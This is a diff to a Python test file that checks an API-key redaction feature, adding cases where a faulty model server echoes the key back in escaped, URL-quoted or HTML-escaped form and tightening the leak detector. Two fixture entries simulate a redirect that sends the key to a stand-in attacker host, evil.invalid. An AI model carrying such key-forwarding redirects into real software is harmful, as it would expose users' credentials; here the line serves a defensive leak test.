@@ -1,7 +1,9 @@
 """API keys: whatever is solved, recorded, exported, served or fails, no file, output, log or traceback has a key."""
 
+import html
 import json
 import traceback
+from urllib.parse import quote
 
 import pytest
 
@@ -16,18 +18,27 @@ from hintree.solver import Solver
 from tests.support.faulty_server import FaultyServer, completion, response
 from tests.support.server import fetch, user_message
 
-KEY = "sk-f3a9c2-of-the-model-server"
+KEY = "sk-f3a9c2/of-the-model&server"
 SERVE_KEY = "sk-77d0e1-of-our-own-server"
+ESCAPED = "".join(f"\\u{ord(letter):04x}" for letter in KEY)
 QUESTION = "(1) Ana has 4 pens. (2) Ben gets 3 more pens than Ana. How many pens does Ben have?"
 REPEATED = {
     "401": (response(json.dumps({"error": f"no access for Bearer {KEY}"}), "401 No"), ""),
     "401, cut": (response(" " * (290 - len(KEY) // 2) + KEY, "401 No"), ""),
-    "no JSON": (response(f"<p>{' ' * 40}{KEY}</p>"), ""),
+    "no JSON": (response(f"<p>{' ' * 40}{html.escape(KEY)}</p>"), ""),
     "no HTTP": (f"Authorization: Bearer {KEY}\r\n\r\n".encode(), ""),
     "text": (response(completion(f"The key is {KEY}.")), ""),
     "end": (response(completion(finish_reason=KEY)), ""),
     "redirect": (response("", "302 X", None, f"Location: http://evil.invalid/?key={KEY}"), ""),
     "500": (response(KEY, "500 X"), ""),
+    "text, escaped": (response(completion("The key is PLACE.").replace(b"PLACE", ESCAPED.encode())), ""),
+    "text, escaped twice": (response(completion(f"The key is {ESCAPED}.")), ""),
+    "text, its slash escaped": (response(completion(f"It is {KEY}.").replace(b"/", rb"\/")), ""),
+    "401, escaped": (response('{"error": "no access for PLACE"}'.replace("PLACE", ESCAPED), "401 No"), ""),
+    "error inside": (response('{"error": {"message": "PLACE", "code": 400}}'.replace("PLACE", ESCAPED)), ""),
+    "redirect, escaped": (response("", "302 X", None, f"Location: http://evil.invalid/?key={quote(KEY, '')}"), ""),
+    "status line": (response("", f"401 No {KEY}"), ""),
+    "encoding": (response("", "200 X", None, f"Content-Encoding: {KEY}"), ""),
 }
 """Responses that repeat the key, by fault."""
 
@@ -41,7 +52,8 @@ def written(folder, capsys, caplog, *more):
 
 
 def leaks(sources):
-    return [name for name, text in sources.items() for key in (KEY, SERVE_KEY) if key[3:12].encode() in text]
+    parts = [KEY[3:9], SERVE_KEY[3:12], ESCAPED[18:54], KEY[9:20]]
+    return [name for name, text in sources.items() for part in parts if part.encode() in text]
 
 
 @pytest.fixture
